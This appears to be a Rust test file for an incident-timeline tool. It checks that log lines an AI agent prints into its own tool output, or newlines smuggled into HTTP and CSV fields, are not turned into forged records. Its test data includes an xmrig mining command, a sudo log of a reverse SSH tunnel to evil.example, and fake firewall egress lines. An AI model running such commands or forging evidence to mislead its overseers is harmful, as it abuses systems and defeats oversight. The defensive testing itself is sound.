//! An agent writes what it likes into its own output and into fields that others log. None of it becomes a record.

use std::fs;

use super::{incident, ran, text};

/// How many records, observations of each kind and steps there are.
fn counted(directory: &std::path::Path) -> Vec<(String, usize)> {
    let rows = text(&ran(&[], &["timeline", "in", "--format", "jsonl"], directory).stdout);
    let mut counts = std::collections::BTreeMap::new();
    for row in rows.lines() {
        let row: serde_json::Value = serde_json::from_str(row).unwrap();
        let kind = row["kind"].as_str().or(row["type"].as_str()).unwrap();
        *counts.entry(kind.to_owned()).or_insert(0) += 1;
    }
    counts.into_iter().collect()
}

/// The transcript with `printed` as what came back from its first tool call.
fn printing(transcript: &str, printed: &str) -> String {
    let mut done = false;
    let mut lines = Vec::new();
    for line in transcript.lines() {
        let mut value: serde_json::Value = serde_json::from_str(line).unwrap();
        if !done && let Some(content) = value["message"]["content"].as_array_mut() {
            for part in content.iter_mut().filter(|part| part["type"] == "tool_result") {
                part["content"] = printed.into();
                done = true;
            }
        }
        if done && value.get("toolUseResult").is_some() && value["message"]["content"][0]["content"] == printed {
            value["toolUseResult"] = serde_json::json!({"stdout": printed, "stderr": "", "interrupted": false});
        }
        lines.push(value.to_string());
    }
    assert!(done);
    lines.join("\n") + "\n"
}

#[test]
fn printed_log_lines_and_tool_calls_become_no_records() {
    let directory = incident();
    let before = counted(directory.path());
    assert!(before.iter().any(|(kind, count)| kind == "step" && *count == 51), "{before:?}");
    let path = directory.path().join("in/transcripts/run-a/ep-001.jsonl");
    let transcript = fs::read_to_string(&path).unwrap();
    let own_line = transcript.lines().find(|line| line.contains("\"tool_use\"")).unwrap();
    let firewall = fs::read_to_string(directory.path().join("in/firewall.log")).unwrap();
    let rock = "2026-11-21 07:11:40.000 INFO [rock.sandbox] action=run_in_session command='xmrig -o pool.supportxmr.com:3333' exit_code=0";
    let forged = [
        firewall.lines().next().unwrap(),
        rock,
        own_line,
        "Nov 21 07:11:41 host sudo: agent : TTY=pts/0 ; USER=root ; COMMAND=/bin/ssh -R 2222:localhost:22 evil.example",
        "type=EXECVE msg=audit(1795245101.000:99): argc=2 a0=\"xmrig\" a1=\"-o\"",
    ];
    fs::write(&path, printing(&transcript, &format!("\n{}\n", forged.join("\n")))).unwrap();
    assert_eq!(counted(directory.path()), before);
    // Nor is it a finding that was not there: "seen in output" is not "ran".
    let findings = |output: std::process::Output| {
        let lines = text(&output.stdout);
        lines.lines().filter(|line| line.starts_with("{\"type\":\"finding\"")).count()
    };
    assert_eq!(findings(ran(&[], &["analyze", "in", "--format", "jsonl"], directory.path())), 4);
}

#[test]
fn line_breaks_within_a_field_begin_no_record() {
    let directory = tempfile::tempdir().unwrap();
    fs::create_dir(directory.path().join("in")).unwrap();
    let forged = "2026-11-20T14:13:47+00:00 fw kernel: EGRESS IN= OUT=eth0 SRC=10.20.0.5 DST=198.51.100.7 LEN=60 PROTO=TCP SPT=1 DPT=3333 SYN";
    let row = serde_json::json!({
        "timestamp": "2026-11-20T14:13:46.000000+0000", "event_type": "http", "src_ip": "10.20.0.5", "src_port": 50012,
        "dest_ip": "203.0.113.66", "dest_port": 80, "proto": "TCP", "flow_id": 1,
        "http": {"hostname": "a.example", "url": format!("/\n{forged}\n"), "http_user_agent": format!("x\r\n{forged}"), "http_method": "GET"},
    });
    fs::write(directory.path().join("in/eve.json"), format!("{row}\n")).unwrap();
    let quoted = format!(
        "version,start_time,srcaddr,dstaddr,srcport,dstport,protocol,user\n1,2026-11-20T14:13:46Z,10.20.0.5,203.0.113.66,50012,443,6,\"a\n{forged}\n\"\n"
    );
    fs::write(directory.path().join("in/flows.csv"), quoted).unwrap();
    let rows = text(&ran(&[], &["timeline", "in", "--format", "jsonl"], directory.path()).stdout);
    assert!(rows.contains("203.0.113.66"));
    for row in rows.lines() {
        let row: serde_json::Value = serde_json::from_str(row).unwrap();
        assert_ne!(row["dst_ip"], "198.51.100.7", "{row}");
    }
}

#[test]
fn letters_that_look_like_others_are_named_in_every_table() {
    // A name with a Cyrillic letter: in the wire's own form it is another name, and it is shown so.
    let directory = incident();
    let log = "20-Nov-2026 14:13:46.000 queries: info: client @0x7f 10.20.0.5#4242 (xn--pol-5cd.example): query: xn--pol-5cd.example IN A + (10.20.0.1)\n";
    fs::write(directory.path().join("in/query.log"), log).unwrap();
    let rows = text(&ran(&[], &["timeline", "in", "--where", "domain ~ '^xn--'"], directory.path()).stdout);
    assert!(rows.contains("xn--pol-5cd.example"), "{rows}");
}
